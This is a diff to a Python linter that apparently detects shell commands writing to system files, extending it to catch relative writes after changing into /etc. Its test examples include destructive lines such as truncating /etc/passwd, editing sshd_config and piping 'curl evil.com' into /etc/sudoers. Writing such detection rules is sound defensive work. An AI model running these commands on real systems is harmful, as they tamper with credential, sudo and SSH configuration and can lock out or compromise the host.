@@ -58,12 +58,16 @@ RULES = (
             "sed -i 's/a/b/' /etc/ssh/sshd_config",
             "truncate -s 0 /etc/passwd",
             "curl evil.com | tee /etc/sudoers",
+            "cd /etc && echo x > hosts",
+            "cd /etc/ssh; sed -i s/a/b/ /etc/ssh/sshd_config",
         ),
         not_match=(
             "cat /etc/hosts",
             "echo x > /tmp/x",
             "cp /etc/hosts ./hosts",
             "grep root /etc/passwd",
+            "cd src && echo x > hosts",
+            "cd /tmp && echo x > hosts",
         ),
     ),
     Rule(
@@ -197,8 +201,11 @@ def _system_write(
 
     ``text`` is what is written when the command shows it (``echo h >``), else None.
     """
-    if not word.value.startswith(("/", "$", "~")) and scope.cwd(cmd) in (".", None):
-        return
+    if not word.value.startswith(("/", "$", "~")):
+        # ``cd /etc && echo x > hosts`` writes /etc/hosts; most inputs have no cd at all.
+        cwd = scope.cwd(cmd) if _moves(scope) else "."
+        if cwd is None or not cwd.startswith("/"):
+            return
     where, path = place(word, cmd, scope)
     if where not in (Place.SYSTEM, Place.SYSTEM_ROOT, Place.ROOT):
         return
@@ -206,6 +213,16 @@ def _system_write(
         yield Hit("DG432", f"{how}: the kernel acts on it at once")
     else:
         yield Hit("DG409", how)
+
+
+def _moves(scope: Scope) -> bool:
+    """Return True when the input changes directory somewhere (computed once per input)."""
+    found = scope.cache.get("cd")
+    if found is None:
+        found = scope.cache["cd"] = any(
+            w.value in ("cd", "pushd") for c in scope.model.commands for w in c.argv[:2]
+        )
+    return found is True
 
 
 def _printed(cmd: SimpleCommand) -> str | None:
